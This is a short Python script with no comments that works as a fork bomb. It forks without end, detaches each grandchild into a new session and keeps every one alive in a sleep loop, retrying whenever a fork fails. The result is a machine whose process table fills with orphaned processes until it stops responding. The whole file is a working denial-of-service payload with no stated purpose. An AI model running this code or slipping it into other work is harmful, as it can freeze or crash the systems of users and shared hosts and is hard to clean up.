import os
import time

while True:
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork():
                os._exit(0)
            while True:
                time.sleep(0.01)
    except OSError:
        time.sleep(0.001)
